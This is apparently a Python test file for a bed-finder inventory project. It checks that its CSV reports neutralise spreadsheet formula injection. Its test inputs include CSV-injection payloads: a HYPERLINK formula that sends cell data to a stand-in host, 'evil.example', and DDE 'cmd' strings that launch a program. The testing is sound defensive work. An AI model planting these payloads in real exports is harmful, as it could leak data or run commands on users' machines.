"""Every CSV the project writes shows text as text: a cell a spreadsheet would run as a
formula (leading `=`, `+`, `-`, `@`, tab, carriage return; OWASP "CSV Injection") gets a
leading `'`, in every report, whatever an admin or an imported feed named things."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from pathlib import Path

import pytest

from inventory.config import Settings
from inventory.history import floor_hour
from inventory.measures import MEASURES, Table
from tests.conftest import Server, serve
from web.api.reports import FORMULA_STARTS, spreadsheet_safe, to_csv
from web.demo import seed
from web.demo_history import fill_history
from web.report_cli import export

HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(A1:A9)",
                 "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
HOSTILE_AREAS = ["+cmd|' /C calc'!A0", "=1+1", "@A1"]


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def runnable_cells(text: str) -> list[str]:
    """Cells a spreadsheet would evaluate: text (not a number) starting a formula."""
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row
            if cell.startswith(FORMULA_STARTS) and not is_number(cell)]


@pytest.mark.parametrize("value", [*HOSTILE_NAMES, *HOSTILE_AREAS])
def test_a_formula_becomes_text_that_reads_the_same(value: str) -> None:
    assert spreadsheet_safe(value) == "'" + value
    written = to_csv(Table("t", ["name"], [{"name": value}]))
    assert runnable_cells(written) == []
    assert list(csv.reader(io.StringIO(written, newline="")))[1] == ["'" + value]


@pytest.mark.parametrize("value", [-3, -0.5, 0, 12, 2.5, None, "Mission", "a=b", "O'Farrell"])
def test_numbers_and_plain_text_are_written_unchanged(value: object) -> None:
    expected = "" if value is None else str(value)
    written = to_csv(Table("t", ["v"], [{"v": value}]))
    assert list(csv.reader(io.StringIO(written)))[1] == [expected]


async def test_no_report_carries_a_runnable_cell(settings: Settings) -> None:
    """Programs renamed by an admin to formulas, with formula areas; a few days of history
    (simulated while no app serves, as `bedfinder demo --history` does); then every measure,
    by area and not, as the API's CSV."""
    await seed(settings)
    async for server in serve(settings):
        programs = sorted((await server.svc.directory.programs()).values(), key=lambda p: p.id)
        async with server.client(await server.token("admin")) as admin:
            for i, program in enumerate(programs):
                body = {"name": HOSTILE_NAMES[i % len(HOSTILE_NAMES)] + f" {i}",
                        "area": HOSTILE_AREAS[i % len(HOSTILE_AREAS)]}
                reply = await admin.patch(f"/api/v1/programs/{program.id}", json=body)
                assert reply.status_code == 200, reply.text
    assert await fill_history(settings, 2)
    async for server in serve(settings):
        await assert_no_runnable_cells(server)


async def assert_no_runnable_cells(server: Server) -> None:
    end = floor_hour(server.svc.clock()) - timedelta(hours=1)
    query = f"from={(end - timedelta(days=2)).date()}&to={end:%Y-%m-%dT%H:%M:%SZ}"
    seen: set[str] = set()
    async with server.client(await server.token("analyst")) as client:
        for name in MEASURES:
            for by_area in ("false", "true"):
                reply = await client.get(f"/api/v1/reports/{name}.csv?{query}&by_area={by_area}")
                assert reply.status_code == 200, (name, reply.text)
                assert runnable_cells(reply.text) == [], name
                seen.update(cell for row in csv.reader(io.StringIO(reply.text, newline=""))
                            for cell in row)
    # The hostile names and areas did reach the reports, as text a spreadsheet shows.
    assert {"'" + area for area in HOSTILE_AREAS} <= seen
    assert any(cell.startswith("'=HYPERLINK(") for cell in seen)


async def test_bedfinder_report_writes_the_same_safe_cells(settings: Settings, tmp_path: Path,
                                                           monkeypatch: pytest.MonkeyPatch
                                                           ) -> None:
    await seed(settings)
    async for server in serve(settings):
        program = min((await server.svc.directory.programs()).values(), key=lambda p: p.id)
        await server.svc.directory.update_program(program.id, {"name": HOSTILE_NAMES[0],
                                                               "area": HOSTILE_AREAS[0]})
    assert await fill_history(settings, 1)
    monkeypatch.setenv("BEDFINDER_DATABASE_URL", settings.sqlalchemy_url())
    monkeypatch.setenv("BEDFINDER_DATA_DIR", str(tmp_path))
    out = tmp_path / "freshness.csv"
    assert await export("freshness", None, None, [], None, "day", "UTC", out) > 0
    text = out.read_bytes().decode()
    assert runnable_cells(text) == []
    assert "'" + HOSTILE_NAMES[0].replace('"', '""') in text
